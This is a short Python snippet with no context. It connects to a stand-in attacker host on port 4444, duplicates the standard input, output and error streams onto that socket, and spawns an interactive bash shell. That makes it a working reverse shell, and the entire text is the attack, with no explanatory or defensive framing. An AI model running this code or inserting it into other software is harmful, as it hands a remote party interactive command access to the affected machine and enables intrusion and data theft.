import socket as S, os, pty
c = S.create_connection(("attacker.example.net", 4444))
[os.dup2(c.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/bash")
